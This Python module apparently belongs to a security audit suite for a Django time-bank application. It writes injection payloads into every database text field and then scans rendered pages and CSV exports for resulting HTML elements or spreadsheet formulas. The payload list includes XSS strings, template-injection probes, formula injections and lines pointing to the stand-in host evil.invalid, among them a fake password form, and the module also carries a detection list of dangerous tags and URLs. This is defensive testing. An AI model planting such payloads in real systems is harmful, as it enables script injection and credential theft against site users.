"""Texts that want to be more than text: into every column, into every field, and what a page or file makes of them."""

import csv
import io
import json
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

from django.apps import apps
from django.db import IntegrityError, connection, transaction
from django.db.models import EmailField, Field, JSONField, Model

from audit.attack.planting import PLACE_OF_WORDS, tables_of_banks, texts_of
from audit.attack.world import World
from audit.house import ROOT
from members.models import TimeBank

# Beside the checkout, where there is one: a list of strings that break things, which is not ours to copy.
NAUGHTY = ROOT.parent / "shared" / "data" / "naughty-strings.json"
MARK = "zqhostile"
PAYLOADS = (
    f'"><{MARK} onclick=zqrun()>',
    f"'><{MARK} onload=zqrun()>",
    f"<script>zqrun()</script><{MARK}>",
    "<img src=//evil.invalid/x onerror=zqrun()>",
    f"</title></textarea></select><{MARK}>",
    f"</script><svg onload=zqrun()><{MARK}>",
    f"<iframe srcdoc='<script>zqrun()</script>'><{MARK}>",
    f"{{{{7*7}}}}{{% debug %}}<{MARK}>",
    "javascript:zqrun()//",
    f"<a href=javascript:zqrun()>x</a><{MARK}>",
    f"<style>@import'//evil.invalid'</style><{MARK}>",
    f"<base href=//evil.invalid><{MARK}>",
    f"<form action=//evil.invalid><input name=password><{MARK}>",
    f"<meta http-equiv=refresh content='0;url=//evil.invalid'><{MARK}>",
    f'=HYPERLINK("http://evil.invalid")<{MARK}>',
    f"@SUM(1)<{MARK}>",
    f"\u202e\u0000<{MARK}>".replace("\u0000", "\ufffd"),
    f"&lt;{MARK}&gt;<{MARK}>",
)
DANGEROUS_TAGS = {MARK, "base", "iframe", "object", "embed"}


def naughty() -> list[str]:
    """Those of the list, or none where it is not beside this checkout."""
    if not NAUGHTY.exists():
        return []
    found: list[str] = json.loads(NAUGHTY.read_text(encoding="utf-8"))
    return found


def sow(world: World) -> int:
    """A payload in every text of both time banks, whatever guards it; returns how many columns of rows that was."""
    with connection.cursor() as cursor:
        cursor.execute("SET session_replication_role = replica")
    sown = sum(_sow(model, field, world) for model in tables_of_banks() for field in texts_of(model))
    for name in ("name", "about", "place", "coordinator_label"):
        sown += _sow(TimeBank, TimeBank._meta.get_field(name), world)
    user: Any = apps.get_model("members.User")
    sown += _sow(user, user._meta.get_field("email"), world)
    with connection.cursor() as cursor:
        cursor.execute("SET session_replication_role = DEFAULT")
    return sown


def _sow(model: type[Model], field: Any, world: World) -> int:
    if isinstance(field, JSONField) and f"{model._meta.label}.{field.name}" not in PLACE_OF_WORDS:
        return 0
    sown = 0
    for number, row in enumerate(model._base_manager.order_by("pk")):
        before = getattr(row, field.name)
        if not before:
            continue
        try:
            with transaction.atomic():
                model._base_manager.filter(pk=row.pk).update(**{field.name: _with(before, field, number)})
        except IntegrityError:
            continue
        sown += 1
    return sown


def _with(before: Any, field: "Field[Any, Any]", number: int) -> Any:
    if isinstance(field, JSONField):
        return [
            {**one, "answer": PAYLOADS[number % len(PAYLOADS)], "question": PAYLOADS[0]} for one in before
        ]
    if isinstance(field, EmailField):
        return f'"<{MARK}>"{number}@evil.invalid'
    longest = (field.max_length or 5_000) - len(str(number))
    fitting = [payload for payload in PAYLOADS if len(payload) <= longest]
    return f"{fitting[number % len(fitting)]}{number}" if fitting else before


class Elements(HTMLParser):
    """Finds what text has become that should have stayed text."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        said = {name: value or "" for name, value in attributes}
        if tag in DANGEROUS_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in said.items():
            plain = "".join(value.lower().split())
            leads_out = name in ("href", "src", "action", "formaction") and plain.startswith(
                ("javascript:", "//", "data:text", "http://evil", "https://evil")
            )
            if name.startswith("on") or MARK in name or leads_out:
                self.found.append(f"<{tag} {name}={value[:40]!r}>")

    def handle_startendtag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attributes)


def elements_in(page: bytes) -> list[str]:
    """Elements and attributes that a payload has made."""
    reader = Elements()
    reader.feed(page.decode(errors="replace"))
    return sorted(set(reader.found))


def formulas_in(file: bytes) -> Iterator[str]:
    """Cells that a spreadsheet would calculate."""
    for row in csv.reader(io.StringIO(file.decode("utf-8-sig", errors="replace"))):
        for cell in row:
            if cell[:1] in ("=", "+", "@", "\t", "\r") and not cell[1:2].isdigit():
                yield cell[:60]
